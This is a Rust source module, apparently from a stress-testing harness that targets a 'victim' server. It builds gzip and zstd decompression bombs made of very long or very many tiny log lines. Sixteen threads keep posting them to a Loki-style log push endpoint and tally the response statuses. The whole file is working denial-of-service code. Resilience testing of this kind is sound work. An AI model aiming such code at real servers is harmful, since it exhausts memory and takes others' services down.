//! Small bodies that unpack to as much as the limits allow, many at once.

use crate::server::{Server, agent};
use crate::victim::now_ns;
use std::io::Write;
use std::sync::Mutex;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

const CLIENTS: usize = 16;

/// As many clients as there are, each with bombs of its own packing: gzip, zstd with a wide window, and lines so short
/// that what is known of each costs more than its bytes.
pub fn attack(server: &Server, stop: &AtomicBool) -> String {
    let statuses = Mutex::new(std::collections::BTreeMap::<String, usize>::new());
    let bombs = [
        ("gzip", gzip(&long_line(3 << 20))),
        ("gzip", gzip(&many_lines(3 << 20))),
        ("zstd", zstd(&many_lines(3 << 20))),
        ("gzip", gzip(&long_line(60 << 20))),
    ];
    std::thread::scope(|scope| {
        for n in 0..CLIENTS {
            let (bombs, statuses) = (&bombs, &statuses);
            scope.spawn(move || {
                let client = agent(Duration::from_secs(60));
                while !stop.load(Ordering::Relaxed) {
                    let (packing, body) = &bombs[n % bombs.len()];
                    let post = client.post(server.url("/loki/api/v1/push"));
                    let post =
                        post.header("Content-Type", "application/json").header("Content-Encoding", *packing);
                    let status =
                        post.send(body).map_or_else(|e| e.to_string(), |a| a.status().as_u16().to_string());
                    *statuses.lock().unwrap().entry(status).or_default() += 1;
                }
            });
        }
    });
    format!("{CLIENTS} clients: {:?}", statuses.into_inner().unwrap())
}

fn push(values: &str) -> String {
    format!(r#"{{"streams":[{{"stream":{{"app":"bomb"}},"values":[{values}]}}]}}"#)
}

/// Many lines below the limit of a line, of the same byte.
fn long_line(bytes: usize) -> String {
    let line = "x".repeat(100_000);
    let now = now_ns();
    let values: Vec<String> =
        (0..bytes / line.len()).map(|n| format!(r#"["{}","{line}"]"#, now + n as u128)).collect();
    push(&values.join(","))
}

fn many_lines(bytes: usize) -> String {
    let now = now_ns();
    let values: Vec<String> = (0..bytes / 28).map(|n| format!(r#"["{}","x"]"#, now + n as u128)).collect();
    push(&values.join(","))
}

fn gzip(text: &str) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(text.as_bytes()).unwrap();
    encoder.finish().unwrap()
}

fn zstd(text: &str) -> Vec<u8> {
    let mut encoder = zstd::stream::write::Encoder::new(Vec::new(), 1).unwrap();
    encoder.window_log(25).unwrap();
    encoder.write_all(text.as_bytes()).unwrap();
    encoder.finish().unwrap()
}
